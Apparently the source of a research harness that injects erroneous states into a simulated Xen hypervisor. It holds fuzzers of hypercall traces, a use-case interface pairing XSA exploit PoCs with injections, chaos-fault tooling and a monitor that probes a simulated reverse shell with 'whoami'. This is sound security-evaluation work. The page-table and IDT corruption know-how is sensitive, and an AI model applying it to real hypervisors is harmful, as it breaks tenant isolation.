  DetectedByAudit,      ///< audit findings, but no violation materialized
  IsolationViolation,   ///< guest-writable PT / Xen frame / foreign mapping
  HostCrash,            ///< hypervisor panic
  CpuHang,              ///< wedged delivery/event loop
};

[[nodiscard]] std::string to_string(FuzzOutcome outcome);

/// Target classes the generator draws from. Exposed so campaigns can
/// restrict the state space to one intrusion model.
enum class FuzzTarget {
  OwnL1Slot,      ///< random slot of the attacker's leaf table
  OwnL4Slot,      ///< random slot of the attacker's top-level table
  IdtBytes,       ///< random bytes over a random IDT gate
  XenL3Slot,      ///< random slot of the shared Xen L3
  WildPhysical,   ///< random 8 bytes anywhere in machine memory
};

struct FuzzConfig {
  hv::XenVersion version = hv::kXen46;
  unsigned iterations = 50;
  /// Campaign seed, mixed per-iteration through splitmix64 into a
  /// std::seed_seq — all 64 bits matter (seeds differing only in the high
  /// word draw unrelated streams).
  std::uint64_t seed = 1;
  /// Boot one platform and rewind it to its baseline() between iterations
  /// (delta restore, O(dirty frames)) instead of cold-booting every time.
  /// Outcomes are identical either way — a restored platform is
  /// byte-identical to a fresh boot — so this is purely a speed knob, kept
  /// toggleable for the regression test that proves exactly that.
  bool reuse_platform = true;
  /// Platform shape per iteration (version/injector overridden).
  guest::PlatformConfig platform{};
};

struct FuzzStats {
  std::map<FuzzOutcome, unsigned> outcomes;
  std::map<FuzzTarget, unsigned> targets;
  unsigned iterations = 0;
  unsigned injections_refused = 0;
  unsigned platform_boots = 0;  ///< 1 with reuse_platform, else iterations

  [[nodiscard]] unsigned count(FuzzOutcome outcome) const {
    auto it = outcomes.find(outcome);
    return it == outcomes.end() ? 0 : it->second;
  }
  [[nodiscard]] std::string render() const;
};

/// Run the randomized campaign. Deterministic for a given config.
[[nodiscard]] FuzzStats run_random_injection_campaign(const FuzzConfig& config);

}  // namespace ii::core
