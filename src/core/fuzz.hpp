// Randomized erroneous-state injection (paper §IV-C):
//
//   "Relevant erroneous states can be difficult to be designed by a tester.
//    ... One possibility is to randomize inputs to an injector, creating an
//    approach that resembles fuzzing testing but in another level of
//    interaction, in a post-attack phase."
//
// Two engines implement that suggestion:
//
//  - run_random_injection_campaign: the original blind engine. Each
//    iteration boots (or rewinds) a platform, drives one randomized
//    write-what-where erroneous state through the arbitrary-access injector
//    and classifies what the system did with it. No feedback, no memory.
//
//  - run_sequence_fuzzer: the coverage-guided engine (ROADMAP item 2,
//    DESIGN.md §17). Iterations execute *hypercall traces* — sequences of
//    FuzzOps spanning the whole guest-issuable surface plus the injector —
//    against a warm platform (delta-rewound between runs, O(dirty)).
//    A CoverageMap keyed on (op kind × frame type × validation branch)
//    is fed by a hv::CoverageHook planted in the validation engine; traces
//    that light up new coverage enter a corpus and a mutation scheduler
//    preferentially extends/mutates the entries that grew coverage most
//    recently. Traces that end in an erroneous state survive: they are
//    shrunk by a delta-debugging minimizer, classified against the model
//    checker's erroneous-state families, and flagged as *novel* when the
//    four XSA scenarios do not cover them. Corpus traces serialize to
//    self-delimiting records (same idiom as the checker's spill file) and
//    replay byte-identically.
#pragma once

#include <cstdint>
#include <map>
#include <optional>
#include <random>
#include <span>
#include <string>
#include <vector>

#include "analysis/model_checker.hpp"
#include "guest/platform.hpp"
#include "hv/coverage.hpp"

namespace ii::obs {
class MetricsRegistry;  // obs/metrics.hpp
class SpanProfiler;     // obs/span.hpp
}  // namespace ii::obs

namespace ii::core {

/// Classified consequence of one randomized injection or one trace.
enum class FuzzOutcome {
  NoObservableEffect,   ///< nothing the monitor can see changed
  Refused,              ///< every attempted injection was refused
  DetectedByAudit,      ///< audit findings, but no violation materialized
  IsolationViolation,   ///< an isolation invariant no longer holds
  HostCrash,            ///< hypervisor panic
  CpuHang,              ///< wedged delivery/event loop
};

[[nodiscard]] std::string to_string(FuzzOutcome outcome);

/// Target classes the blind generator draws from. Exposed so campaigns can
/// restrict the state space to one intrusion model.
enum class FuzzTarget {
  OwnL1Slot,      ///< random slot of the attacker's leaf table
  OwnL4Slot,      ///< random slot of the attacker's top-level table
  IdtBytes,       ///< random bytes over a random IDT gate
  XenL3Slot,      ///< random slot of the shared Xen L3
  WildPhysical,   ///< random 8 bytes anywhere in machine memory
};

/// Enumerator count of FuzzTarget. The generator's target draw uses this —
/// never a hardcoded literal — and ii_analyze's registry-closure rule flags
/// drift against the enum, exactly like kCategoryCount.
inline constexpr std::size_t kFuzzTargetCount = 5;

// ------------------------------------------------------------ draw helpers

/// Uniform draw in [0, bound) by 64-bit rejection sampling (bound == 0 or 1
/// returns 0). This replaces the `rng() % bound` idiom, which had two bugs:
/// std::mt19937 yields 32-bit values, silently truncating draws over
/// machine-sized bounds (addresses above 4 GiB were never probed), and the
/// modulo carries bias for any bound that does not divide the engine range.
[[nodiscard]] std::uint64_t draw_below(std::mt19937_64& rng,
                                       std::uint64_t bound);

/// Per-iteration engine over the full 64-bit campaign seed: splitmix64
/// decorrelation first, then a seed_seq over all four 32-bit words. All 64
/// seed bits matter, and every draw is a full 64-bit word.
[[nodiscard]] std::mt19937_64 rng_for(std::uint64_t seed,
                                      std::uint64_t iteration);

// --------------------------------------------------------- blind campaign

struct FuzzConfig {
  hv::XenVersion version = hv::kXen46;
  unsigned iterations = 50;
  /// Campaign seed; see rng_for.
  std::uint64_t seed = 1;
  /// Boot one platform and rewind it to its baseline() between iterations
  /// (delta restore, O(dirty frames)) instead of cold-booting every time.
  /// Outcomes are identical either way — a restored platform is
  /// byte-identical to a fresh boot — so this is purely a speed knob, kept
  /// toggleable for the regression test that proves exactly that.
  bool reuse_platform = true;
  /// Platform shape per iteration (version/injector overridden).
  guest::PlatformConfig platform{};
};

struct FuzzStats {
  std::map<FuzzOutcome, unsigned> outcomes;
  std::map<FuzzTarget, unsigned> targets;
  unsigned iterations = 0;
  /// Equals count(FuzzOutcome::Refused); kept as a named field because
  /// reports cite it directly. Refused iterations are no longer *also*
  /// counted under NoObservableEffect (the old double-count bug).
  unsigned injections_refused = 0;
  unsigned platform_boots = 0;  ///< 1 with reuse_platform, else iterations

  [[nodiscard]] unsigned count(FuzzOutcome outcome) const {
    auto it = outcomes.find(outcome);
    return it == outcomes.end() ? 0 : it->second;
  }
  [[nodiscard]] std::string render() const;
};

/// Run the randomized campaign. Deterministic for a given config.
[[nodiscard]] FuzzStats run_random_injection_campaign(const FuzzConfig& config);

// ------------------------------------------------------- sequence fuzzer

/// One operation of a fuzz trace: the model checker's guest-issuable
/// alphabet plus the injector's write-what-where. Self-contained (absolute
/// addresses/frames against the deterministic boot layout) so any trace
/// replays against a fresh platform of the same configuration.
struct FuzzOp {
  enum class Kind : std::uint8_t {
    ArbitraryWrite,   ///< injector write (addr = machine byte address)
    MmuUpdate,        ///< validated PTE write (addr = slot machine address)
    Pin,              ///< pin mfn as an L<level> table
    Unpin,
    NewBaseptr,
    Exchange,         ///< trade pfn, replacement MFN written to out
    GrantSetVersion,
    GrantAccess,
    GrantEndAccess,
  };
  Kind kind = Kind::ArbitraryWrite;
  std::uint8_t level = 0;     ///< Pin: table level 1..4
  std::uint64_t addr = 0;     ///< ArbitraryWrite/MmuUpdate target
  std::uint64_t value = 0;    ///< written value / raw PTE
  std::uint64_t mfn = 0;      ///< Pin/Unpin/NewBaseptr frame
  std::uint64_t pfn = 0;      ///< Exchange in-extent / GrantAccess page
  std::uint64_t out = 0;      ///< Exchange output pointer (guest VA)
  std::uint32_t gref = 0;     ///< grant reference
  std::uint32_t version = 0;  ///< GrantSetVersion argument

  friend bool operator==(const FuzzOp&, const FuzzOp&) = default;
};

inline constexpr std::size_t kFuzzOpKindCount = 9;

[[nodiscard]] std::string to_string(FuzzOp::Kind kind);

/// Coverage contexts: one per op kind, plus one for the activation workload
/// that runs after the trace (reads, faults, interrupts, event loop).
inline constexpr std::size_t kCoverageContexts = kFuzzOpKindCount + 1;

/// Dense (op kind × frame type × validation branch) bitmap. record()
/// reports whether the triple was new — the fuzzer's feedback bit.
class CoverageMap {
 public:
  CoverageMap();

  /// Mark a triple; returns true the first time it is seen.
  bool record(std::size_t context, hv::PageType frame_type,
              hv::ValidationBranch branch);
  [[nodiscard]] bool covered(std::size_t context, hv::PageType frame_type,
                             hv::ValidationBranch branch) const;
  /// Distinct triples seen so far.
  [[nodiscard]] std::size_t points() const { return points_; }
  [[nodiscard]] static std::size_t total_points() {
    return kCoverageContexts * hv::kCoverageFrameTypes *
           hv::kValidationBranchCount;
  }
  /// Deterministic listing of covered triples, one per line.
  [[nodiscard]] std::string render() const;

 private:
  std::vector<bool> bits_;
  std::size_t points_ = 0;
};

/// Observed result of executing one trace on a freshly rewound platform.
struct TraceResult {
  FuzzOutcome outcome = FuzzOutcome::NoObservableEffect;
  std::vector<analysis::ErroneousStateClass> classes;  ///< sorted, deduped
  std::uint64_t state_hash = 0;  ///< Hypervisor::state_hash() afterwards
  unsigned new_coverage = 0;     ///< fresh triples added to the map
  unsigned ops_executed = 0;     ///< ops applied (trace stops on crash/hang)
  unsigned ops_refused = 0;      ///< ops whose hypercall returned an error
};

/// A replayable corpus record: the trace plus the result its recording run
/// observed (replay asserts it reproduces).
struct CorpusEntry {
  std::vector<FuzzOp> ops;
  FuzzOutcome outcome = FuzzOutcome::NoObservableEffect;
  std::vector<analysis::ErroneousStateClass> classes;
  std::uint64_t state_hash = 0;

  friend bool operator==(const CorpusEntry&, const CorpusEntry&) = default;
};

/// Self-delimiting little-endian serialization (the model checker's
/// spill-record idiom): fixed header, op records, recorded result.
[[nodiscard]] std::vector<std::uint8_t> serialize_trace(
    const CorpusEntry& entry, hv::XenVersion version);
/// Parse; nullopt on a short, malformed or wrong-magic buffer.
[[nodiscard]] std::optional<CorpusEntry> deserialize_trace(
    std::span<const std::uint8_t> bytes, hv::XenVersion* version = nullptr);

/// File I/O wrappers (chaos points fuzz.corpus_write_fail /
/// fuzz.corpus_read_fail cover the failure paths). store returns false on
/// refusal or I/O error; load returns nullopt.
bool store_trace_file(const std::string& path, const CorpusEntry& entry,
                      hv::XenVersion version);
[[nodiscard]] std::optional<CorpusEntry> load_trace_file(
    const std::string& path, hv::XenVersion* version = nullptr);

struct SeqFuzzConfig {
  hv::XenVersion version = hv::kXen46;
  unsigned iterations = 200;
  std::uint64_t seed = 1;
  /// Coverage-guided (corpus + mutation scheduler) vs blind (every trace
  /// drawn fresh). Both record coverage; only guided feeds on it.
  bool guided = true;
  /// Shrink survivors with the delta-debugging minimizer.
  bool minimize = true;
  /// Generated trace length is 1..max_ops; mutation may extend to 2*max_ops.
  unsigned max_ops = 6;
  /// Execution budget per survivor minimization.
  unsigned max_minimize_execs = 200;
  /// Corpus capacity (energy-weighted eviction beyond it).
  unsigned max_corpus = 64;
  /// When non-empty, survivors and the final corpus are persisted here as
  /// deterministic self-delimiting trace files (CI cmp-gates the bytes).
  std::string corpus_dir;
  /// Platform shape (version/injector overridden).
  guest::PlatformConfig platform{};
  obs::MetricsRegistry* metrics = nullptr;  ///< optional, not owned
  obs::SpanProfiler* profiler = nullptr;    ///< optional, not owned
};

/// A surviving erroneous state: the (possibly minimized) trace that
/// reproduces it, and how it classifies.
struct Survivor {
  CorpusEntry entry;            ///< minimized when config.minimize
  unsigned found_iteration = 0;
  unsigned raw_ops = 0;         ///< trace length before minimization
  /// True when the state is NOT covered by the paper's four XSA scenarios
  /// (it classifies as ErroneousStateClass::Other).
  bool novel = false;
  std::string file;             ///< corpus file name when persisted
};

struct SeqFuzzStats {
  unsigned iterations = 0;
  bool guided = true;
  std::uint64_t seed = 0;
  std::size_t coverage_points = 0;
  unsigned corpus_entries = 0;
  std::map<FuzzOutcome, unsigned> outcomes;
  std::map<analysis::ErroneousStateClass, unsigned> class_hits;
  std::vector<Survivor> survivors;
  unsigned ops_executed = 0;
  unsigned ops_refused = 0;
  unsigned minimizer_execs = 0;
  unsigned corpus_write_failures = 0;
  /// Coverage points after each 1k iterations (growth curve evidence).
  std::vector<std::size_t> coverage_curve;

  [[nodiscard]] unsigned novel_survivors() const;
  [[nodiscard]] std::string render() const;
};

/// Run the coverage-guided (or blind) sequence fuzzer. Deterministic for a
/// given config: stats render, survivor set and corpus bytes are
/// byte-identical across runs at the same seed.
[[nodiscard]] SeqFuzzStats run_sequence_fuzzer(const SeqFuzzConfig& config);

/// Execute one trace against a fresh platform of `config`'s shape and
/// return what it observes. `map`, when given, accumulates coverage (and
/// TraceResult::new_coverage counts its fresh triples). This is the replay
/// path: replaying a recorded CorpusEntry's ops must reproduce its recorded
/// outcome/classes/state_hash exactly.
[[nodiscard]] TraceResult replay_trace(const SeqFuzzConfig& config,
                                       std::span<const FuzzOp> ops,
                                       CoverageMap* map = nullptr);

}  // namespace ii::core
