// Use-case abstraction tying together an intrusion model, the original
// exploit PoC, and the equivalent injection script.
//
// The paper's validation strategy (Fig. 4) runs, for each use case, (a) the
// third-party exploit and (b) the injection of the same erroneous state,
// then compares the erroneous states and the security violations observed.
// A UseCase packages those four capabilities; ii::xsa provides the four
// concrete ones from Table II.
#pragma once

#include <memory>
#include <string>
#include <vector>

#include "core/intrusion_model.hpp"
#include "guest/platform.hpp"

namespace ii::core {

/// What one attempt (exploit or injection) reported about itself.
struct CaseOutcome {
  /// Did the scripted steps all run to completion? (An exploit aborting
  /// with -EFAULT on a fixed version reports false here.)
  bool completed = false;
  /// Last hypercall status observed (errno convention).
  long rc = 0;
  /// Free-form step log, mirroring the PoCs' printk output.
  std::vector<std::string> notes;
};

class UseCase {
 public:
  virtual ~UseCase() = default;

  /// Short identifier as used in the paper, e.g. "XSA-212-crash".
  [[nodiscard]] virtual std::string name() const = 0;

  /// The instantiated intrusion model (Table II row).
  [[nodiscard]] virtual IntrusionModel model() const = 0;

  /// Run the original third-party exploit PoC from an unprivileged guest.
  virtual CaseOutcome run_exploit(guest::VirtualPlatform& platform) = 0;

  /// Inject the equivalent erroneous state with the injector prototype.
  virtual CaseOutcome run_injection(guest::VirtualPlatform& platform) = 0;

  /// Audit whether the use case's erroneous state is present in `platform`
  /// (page-table walks, IDT inspection, ... — paper §VI-C's per-case
  /// evidence).
  [[nodiscard]] virtual bool erroneous_state_present(
      guest::VirtualPlatform& platform) const = 0;

  /// Check whether the use case's security violation materialized.
  [[nodiscard]] virtual bool security_violation(
      guest::VirtualPlatform& platform) const = 0;

  /// Canonical, allocation-independent description of the erroneous state
  /// as audited on `platform` — empty when absent. Two runs (e.g. the
  /// exploit and the injection) produced "the same erroneous state" in the
  /// paper's §VI-C sense exactly when their descriptions match: same
  /// corrupted structures, same flags, same payloads — with machine frame
  /// numbers (which legitimately differ run to run) abstracted away.
  [[nodiscard]] virtual std::string erroneous_state_description(
      guest::VirtualPlatform& platform) const {
    (void)platform;
    return {};
  }
};

}  // namespace ii::core
