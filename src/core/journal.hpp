// JSONL cell journal: the persistence layer behind resumable campaigns.
//
// IRIS-style fault-injection frameworks journal every completed experiment
// so a killed campaign can be resumed without re-running (or worse,
// re-randomizing) finished work. This module is that journal for campaign
// cells: line 1 is a header binding the file to the exact campaign shape it
// was recorded under, and every further line is one completed cell with the
// fields the reports need (metrics snapshots and raw traces are *not*
// journaled — resume reproduces the report and CSV, not the event rings).
//
// Robustness contract: a campaign killed mid-write leaves a torn final
// line; parsing skips it, and the supervisor rewrites the journal on resume
// so the torn tail never accumulates. Free-text fields (failure) are
// serialized last in each record, and parsing is a strictly left-to-right
// field scan, so no value can masquerade as a later key.
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "core/campaign.hpp"

namespace ii::core {

/// The journal's first line: campaign shape plus the supervisor knobs that
/// influence results. Resume validates this with *strict string equality* —
/// a journal recorded under a different matrix, budget, or retry policy
/// must not silently poison a resumed run.
[[nodiscard]] std::string journal_header(const CampaignConfig& config,
                                         unsigned max_attempts,
                                         unsigned quarantine_after);

/// One completed cell as a single JSON line (no trailing newline).
[[nodiscard]] std::string journal_entry(const CellResult& cell);

/// Parse one journal line; nullopt for a torn/foreign line.
[[nodiscard]] std::optional<CellResult> parse_journal_entry(
    const std::string& line);

/// Load a journal for resume. Returns the parsed cells; torn lines are
/// skipped. Throws std::runtime_error when the file exists but its header
/// does not equal `expected_header`. A missing file yields an empty vector.
[[nodiscard]] std::vector<CellResult> load_journal(
    const std::string& path, const std::string& expected_header);

}  // namespace ii::core
