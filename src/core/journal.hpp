// JSONL cell journal: the persistence layer behind resumable campaigns.
//
// IRIS-style fault-injection frameworks journal every completed experiment
// so a killed campaign can be resumed without re-running (or worse,
// re-randomizing) finished work. This module is that journal for campaign
// cells: line 1 is a header binding the file to the exact campaign shape it
// was recorded under, and every further line is one completed cell with the
// fields the reports need (metrics snapshots and raw traces are *not*
// journaled — resume reproduces the report and CSV, not the event rings).
//
// Robustness contract: a campaign killed mid-write leaves a torn final
// line; parsing skips it, and the supervisor rewrites the journal on resume
// so the torn tail never accumulates. Every written line additionally
// carries a per-line FNV-1a checksum ("crc" field), so a *corrupt* line —
// a short write inside the file, bit rot, a concurrent writer — is
// detected and skipped too, and load_journal reports how many lines it
// had to skip instead of silently dropping them (the supervisor surfaces
// the count as supervisor.journal_skipped). Free-text fields (failure) are
// serialized last in each record, and parsing is a strictly left-to-right
// field scan, so no value can masquerade as a later key.
#pragma once

#include <cstdint>
#include <fstream>
#include <optional>
#include <string>
#include <vector>

#include "core/campaign.hpp"

namespace ii::core {

/// The journal's first line: campaign shape plus the supervisor knobs that
/// influence results. Resume validates this with *strict string equality* —
/// a journal recorded under a different matrix, budget, or retry policy
/// must not silently poison a resumed run.
[[nodiscard]] std::string journal_header(const CampaignConfig& config,
                                         unsigned max_attempts,
                                         unsigned quarantine_after);

/// One completed cell as a single JSON line (no trailing newline).
[[nodiscard]] std::string journal_entry(const CellResult& cell);

/// journal_entry plus the trailing per-line checksum field: the form
/// JournalWriter appends and load_journal verifies.
[[nodiscard]] std::string journal_line(const CellResult& cell);

/// Parse one journal line; nullopt for a torn/corrupt/foreign line. Lines
/// carrying a "crc" field are verified against it; checksum-less lines
/// (pre-checksum journals) still parse.
[[nodiscard]] std::optional<CellResult> parse_journal_entry(
    const std::string& line);

/// What load_journal recovered from a journal file.
struct JournalLoad {
  std::vector<CellResult> cells;
  /// Torn or checksum-failed lines that were skipped. Non-zero means the
  /// journal lost data (a killed writer, an injected write fault, disk
  /// corruption); the skipped cells simply re-run on resume.
  std::uint64_t skipped = 0;
};

/// Load a journal for resume. Torn and corrupt lines are skipped and
/// counted. Throws std::runtime_error when the file exists but its header
/// does not equal `expected_header`. A missing file yields an empty load.
[[nodiscard]] JournalLoad load_journal(const std::string& path,
                                       const std::string& expected_header);

/// Append-side of the journal: opens with truncation, writes the header,
/// then appends one checksummed line per cell with flush-on-append (each
/// cell is durable before the next one runs). All chaos faults on the
/// write path live here — journal.write_fail drops the line,
/// journal.torn writes a prefix only, journal.fsync_fail fails the flush —
/// so the supervisor's error accounting sees exactly what a faulty disk
/// would produce.
class JournalWriter {
 public:
  JournalWriter() = default;

  /// Truncate-open `path` and write `header`. ok() reports open failure.
  void open(const std::string& path, const std::string& header);

  [[nodiscard]] bool is_open() const { return out_.is_open(); }

  /// Append one cell. Returns false when the line was lost or damaged
  /// (chaos fault or real stream error); the campaign continues either
  /// way — a lost journal line only costs a re-run on resume.
  bool append(const CellResult& cell);

  /// Lines that failed to append plus flush errors, for
  /// supervisor.journal_errors.
  [[nodiscard]] std::uint64_t errors() const { return errors_; }

 private:
  std::ofstream out_;
  std::uint64_t errors_ = 0;
};

}  // namespace ii::core
