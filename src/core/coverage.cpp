#include "core/coverage.hpp"

#include <sstream>

namespace ii::core {

std::vector<ModelCoverage> compute_model_coverage(
    std::span<const IntrusionModel> catalogue,
    const std::vector<std::unique_ptr<UseCase>>& cases) {
  std::vector<ModelCoverage> out;
  out.reserve(catalogue.size());
  for (const IntrusionModel& model : catalogue) {
    ModelCoverage entry{};
    entry.model = model;
    for (const auto& use_case : cases) {
      const IntrusionModel implemented = use_case->model();
      if (implemented.component == model.component &&
          implemented.functionality == model.functionality) {
        entry.covered_by.push_back(use_case->name());
      }
    }
    out.push_back(std::move(entry));
  }
  return out;
}

std::string render_coverage(const std::vector<ModelCoverage>& coverage) {
  std::ostringstream os;
  std::size_t covered = 0;
  for (const ModelCoverage& entry : coverage) covered += entry.covered();
  os << "intrusion-model coverage: " << covered << "/" << coverage.size()
     << " models have an executable injector\n";
  for (const ModelCoverage& entry : coverage) {
    os << "  " << (entry.covered() ? "[x] " : "[ ] ")
       << to_string(entry.model.component) << " / "
       << to_string(entry.model.functionality);
    if (entry.covered()) {
      os << "  <-";
      for (const std::string& name : entry.covered_by) os << ' ' << name;
    }
    os << "\n";
  }
  return os.str();
}

}  // namespace ii::core
