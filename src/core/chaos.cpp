#include "core/chaos.hpp"

#include <algorithm>
#include <atomic>
#include <cstdio>
#include <sstream>

namespace ii::core {

namespace {

// The closed vocabulary of injectable harness faults. Every chaos_fire()
// call site in src/ names a row here (ii-lint rule chaos-point-registry);
// parse_chaos_plan rejects anything else, so a typo in a --chaos-plan is
// an error instead of a silently never-firing point.
constexpr ChaosPointEntry kChaosPointTable[] = {
    {"cell.alloc_fail",
     "platform allocation/boot fails during campaign cell setup"},
    {"journal.write_fail", "journal append writes nothing (lost line)"},
    {"journal.torn", "journal append writes a prefix only (torn line)"},
    {"journal.fsync_fail", "journal flush reports an I/O error"},
    {"worker.crash", "supervisor worker dies (WorkerCrash) before a cell"},
    {"worker.stall", "supervisor worker burns budget in a spin before a cell"},
    {"supervisor.kill", "whole campaign killed after a journal append"},
    {"recover.abort", "hypervisor recovery aborts at a phase boundary"},
    {"net.drop", "simulated network drops a sent line"},
    {"net.partition", "simulated network refuses a connection"},
    {"status.send_fail", "real-socket status response send fails"},
    {"fuzz.corpus_write_fail",
     "fuzzer corpus trace-file write refused (survivor/corpus persistence)"},
    {"fuzz.corpus_read_fail", "fuzzer corpus trace-file read refused"},
};

std::atomic<ChaosEngine*> g_engine{nullptr};

}  // namespace

std::string_view chaos_point_description(std::string_view name) {
  for (const ChaosPointEntry& e : kChaosPointTable) {
    if (e.name == name) return e.description;
  }
  return {};
}

std::vector<std::string_view> registered_chaos_points() {
  std::vector<std::string_view> names;
  for (const ChaosPointEntry& e : kChaosPointTable) names.push_back(e.name);
  return names;
}

ChaosPlan parse_chaos_plan(const std::string& text) {
  ChaosPlan plan;
  std::istringstream tokens{text};
  std::string token;
  while (std::getline(tokens, token, ',')) {
    if (token.empty()) continue;
    const std::size_t eq = token.find('=');
    const std::size_t at = token.find('@');
    std::string name;
    if (eq != std::string::npos && (at == std::string::npos || eq < at)) {
      name = token.substr(0, eq);
      unsigned long rate = 0;
      try {
        std::size_t end = 0;
        rate = std::stoul(token.substr(eq + 1), &end);
        if (end != token.size() - eq - 1) throw std::invalid_argument{token};
      } catch (const std::exception&) {
        throw std::invalid_argument{"chaos plan: bad rate in '" + token + "'"};
      }
      if (rate > 1000) {
        throw std::invalid_argument{"chaos plan: rate > 1000 permille in '" +
                                    token + "'"};
      }
      plan[name].rate_permille = static_cast<std::uint32_t>(rate);
    } else if (at != std::string::npos) {
      name = token.substr(0, at);
      unsigned long long occ = 0;
      try {
        std::size_t end = 0;
        occ = std::stoull(token.substr(at + 1), &end);
        if (end != token.size() - at - 1) throw std::invalid_argument{token};
      } catch (const std::exception&) {
        throw std::invalid_argument{"chaos plan: bad occurrence in '" + token +
                                    "'"};
      }
      if (occ == 0) {
        throw std::invalid_argument{
            "chaos plan: occurrences are 1-based in '" + token + "'"};
      }
      plan[name].fire_at.push_back(occ);
    } else {
      throw std::invalid_argument{
          "chaos plan: expected name=permille or name@occurrence, got '" +
          token + "'"};
    }
    if (chaos_point_description(name).empty()) {
      throw std::invalid_argument{"chaos plan: unknown chaos point '" + name +
                                  "' (see registered_chaos_points)"};
    }
  }
  for (auto& [name, spec] : plan) {
    std::sort(spec.fire_at.begin(), spec.fire_at.end());
    spec.fire_at.erase(std::unique(spec.fire_at.begin(), spec.fire_at.end()),
                       spec.fire_at.end());
  }
  return plan;
}

ChaosEngine::ChaosEngine(std::uint64_t seed, ChaosPlan plan) : seed_{seed} {
  std::ostringstream canon;
  bool first = true;
  for (auto& [name, spec] : plan) {
    if (chaos_point_description(name).empty()) {
      throw std::invalid_argument{"chaos plan: unknown chaos point '" + name +
                                  "'"};
    }
    if (spec.rate_permille > 0) {
      canon << (first ? "" : ",") << name << '=' << spec.rate_permille;
      first = false;
    }
    for (const std::uint64_t occ : spec.fire_at) {
      canon << (first ? "" : ",") << name << '@' << occ;
      first = false;
    }
    PointState state;
    state.spec = std::move(spec);
    // Stream seeding: one splitmix64 step over (seed ^ name hash) so two
    // points never share a stream even under related seeds.
    std::uint64_t s = seed ^ fnv1a64(name);
    state.rng = splitmix64_next(s);
    points_.emplace(name, std::move(state));
  }
  plan_text_ = canon.str();
}

ChaosEngine::~ChaosEngine() {
  // A dying engine disarms itself so no chaos point can dereference it.
  ChaosEngine* self = this;
  g_engine.compare_exchange_strong(self, nullptr);
}

bool ChaosEngine::fire(std::string_view point) {
  const std::lock_guard<std::mutex> lock{mu_};
  const auto it = points_.find(point);
  if (it == points_.end()) return false;
  PointState& state = it->second;
  const std::uint64_t occ = ++state.occurrences;
  // The stream always advances, hit or miss: the decision for occurrence
  // N is a pure function of (seed, name, N), independent of the plan's
  // explicit fire_at entries.
  const std::uint64_t draw = splitmix64_next(state.rng);
  if (state.disabled) return false;
  bool hit = state.spec.rate_permille > 0 &&
             draw % 1000 < state.spec.rate_permille;
  if (!hit) {
    hit = std::binary_search(state.spec.fire_at.begin(),
                             state.spec.fire_at.end(), occ);
  }
  if (hit) {
    ++state.fired;
    ++total_fired_;
    char line[128];
    std::snprintf(line, sizeof line, "%llu %.*s occurrence %llu",
                  static_cast<unsigned long long>(total_fired_),
                  static_cast<int>(it->first.size()), it->first.data(),
                  static_cast<unsigned long long>(occ));
    log_.emplace_back(line);
  }
  return hit;
}

void ChaosEngine::disable(std::string_view point) {
  const std::lock_guard<std::mutex> lock{mu_};
  if (const auto it = points_.find(point); it != points_.end()) {
    it->second.disabled = true;
  }
}

std::uint64_t ChaosEngine::fired(std::string_view point) const {
  const std::lock_guard<std::mutex> lock{mu_};
  const auto it = points_.find(point);
  return it == points_.end() ? 0 : it->second.fired;
}

std::uint64_t ChaosEngine::total_fired() const {
  const std::lock_guard<std::mutex> lock{mu_};
  return total_fired_;
}

std::string ChaosEngine::schedule_log() const {
  const std::lock_guard<std::mutex> lock{mu_};
  std::ostringstream os;
  os << "chaos-schedule seed=" << seed_ << " plan=" << plan_text_ << '\n';
  for (const std::string& line : log_) os << line << '\n';
  return os.str();
}

void ChaosEngine::install(ChaosEngine* engine) {
  g_engine.store(engine, std::memory_order_release);
}

ChaosEngine* ChaosEngine::instance() {
  return g_engine.load(std::memory_order_acquire);
}

bool chaos_fire(std::string_view point) {
  ChaosEngine* const engine = ChaosEngine::instance();
  return engine != nullptr && engine->fire(point);
}

}  // namespace ii::core
