#include "core/monitor.hpp"

namespace ii::core {

Observation SystemMonitor::observe(std::size_t console_tail) const {
  Observation obs;
  obs.hypervisor_crashed = platform_->hv().crashed();
  obs.audit = hv::audit_system(platform_->hv());
  const auto& console = platform_->hv().console();
  const std::size_t start =
      console.size() > console_tail ? console.size() - console_tail : 0;
  obs.console_tail.assign(console.begin() + static_cast<long>(start),
                          console.end());
  return obs;
}

bool SystemMonitor::file_in_all_domains(
    const std::string& path, const std::string& required_substring) const {
  for (guest::GuestKernel* kernel : platform_->kernels()) {
    const auto content = kernel->fs().read(path, /*uid=*/0);
    if (!content) return false;
    if (!required_substring.empty() &&
        content->find(required_substring) == std::string::npos) {
      return false;
    }
  }
  return !platform_->kernels().empty();
}

bool SystemMonitor::attacker_root_shell(std::uint16_t port) const {
  const auto conns = platform_->attacker().accepted(port);
  if (conns.empty()) return false;
  for (const auto& conn : conns) {
    conn->send(net::Endpoint::Client, "whoami");
    platform_->pump();
    if (auto reply = conn->poll(net::Endpoint::Client)) {
      if (*reply == "root") return true;
    }
  }
  return false;
}

}  // namespace ii::core
