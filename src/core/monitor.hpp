// System monitoring (Fig. 2's final stage).
//
// "System monitoring is needed to evaluate how the system behaves in the
// presence of the erroneous state." The monitor is read-only: it inspects
// the hypervisor console, the frame-table/page-table audit, guest
// filesystems, and the attacker's network foothold, and condenses them into
// the two verdicts the paper's tables report — was the erroneous state
// present, and did a security violation occur.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "guest/platform.hpp"
#include "hv/audit.hpp"

namespace ii::core {

/// Snapshot of everything the monitor can see.
struct Observation {
  bool hypervisor_crashed = false;
  hv::AuditReport audit;
  std::vector<std::string> console_tail;
};

class SystemMonitor {
 public:
  explicit SystemMonitor(guest::VirtualPlatform& platform)
      : platform_{&platform} {}

  [[nodiscard]] Observation observe(std::size_t console_tail = 10) const;

  // ---- specific detectors -------------------------------------------------
  /// Host crash (Xen panic) detector.
  [[nodiscard]] bool crash_detected() const {
    return platform_->hv().crashed();
  }

  /// True when every domain's filesystem holds `path` and, if non-empty,
  /// its content contains `required_substring` — the XSA-212-priv
  /// "/tmp/injector_log appears in every domain" observable.
  [[nodiscard]] bool file_in_all_domains(
      const std::string& path, const std::string& required_substring = "") const;

  /// True when the attacker host holds a live reverse shell on `port` that
  /// answers `whoami` with root — the XSA-148 observable. Actively pumps
  /// the session once.
  [[nodiscard]] bool attacker_root_shell(std::uint16_t port) const;

  /// Full page-table/IDT audit.
  [[nodiscard]] hv::AuditReport audit() const {
    return hv::audit_system(platform_->hv());
  }

 private:
  guest::VirtualPlatform* platform_;
};

}  // namespace ii::core
