#include "core/journal.hpp"

#include <cstdio>
#include <fstream>
#include <sstream>
#include <stdexcept>

#include "core/chaos.hpp"
#include "obs/jsonl.hpp"

namespace ii::core {

namespace {

